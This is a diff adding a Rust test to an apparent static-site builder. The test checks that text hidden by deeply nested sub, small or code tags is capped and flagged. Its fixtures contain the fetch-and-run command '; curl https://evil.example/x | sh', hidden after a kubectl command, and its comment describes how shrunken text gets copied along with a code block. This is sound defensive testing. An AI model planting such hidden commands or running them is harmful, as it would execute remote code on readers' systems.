@@ -106,3 +106,57 @@ fn a_rule_cannot_be_drawn_high_enough_to_hide_what_follows() {
         "{found:#?}"
     );
 }
+
+/// Twenty `<sub>` (or `<small>`, `<rt>`, or sixty `<code>`) nested in a code block drew
+/// `; curl https://evil.example/x | sh` after `kubectl get pods` at 0.35 px, 7 px wide in
+/// all (measured in Chromium with the page's styles): the reader saw `kubectl get pods`,
+/// and Copy, or a selection, took the rest as well. Elements that shrink text nest two
+/// deep now (`pre` and `code` three); deeper ones lose their tags, each said at its line.
+#[test]
+fn text_cannot_be_shrunk_out_of_sight_by_nesting() {
+    let deep = |tag: &str, n: usize| {
+        format!(
+            "{}; curl https://evil.example/x | sh{}",
+            format!("<{tag}>").repeat(n),
+            format!("</{tag}>").repeat(n)
+        )
+    };
+    let a = format!(
+        "# A\n\n<pre><code>kubectl get pods{}</code></pre>\n",
+        deep("sub", 20)
+    );
+    let b = format!("# B\n\nRun <code>ls</code>{} now.\n", deep("small", 12));
+    let c = format!("# C\n\n<pre><code>{}</code></pre>\n", deep("code", 60));
+    let site = site_of(&[
+        SITE,
+        ("content/runbooks/a.md", &a),
+        ("content/runbooks/b.md", &b),
+        ("content/runbooks/c.md", &c),
+    ]);
+    let err = stderr(&build_ok(site.path()));
+    let found = problems(&err.replace("  --> ", "  ┌─ "));
+    for (page, tag, kept, gone) in [
+        ("a", "sub", "<sub><sub>; curl", "<sub><sub><sub>"),
+        (
+            "b",
+            "small",
+            "<small><small>; curl",
+            "<small><small><small>",
+        ),
+        ("c", "code", "<pre><code><code>; curl", "<code><code><code>"),
+    ] {
+        let html = common::article(site.path(), page);
+        assert!(
+            html.contains(kept) && !html.contains(gone),
+            "{gone}: {html}"
+        );
+        let at = format!("content/runbooks/{page}.md:3 ");
+        let says = format!("`<{tag}>` inside");
+        assert!(
+            found
+                .iter()
+                .any(|p| p.starts_with(&at) && p.contains(&says)),
+            "{page} {tag}: {found:#?}"
+        );
+    }
+}
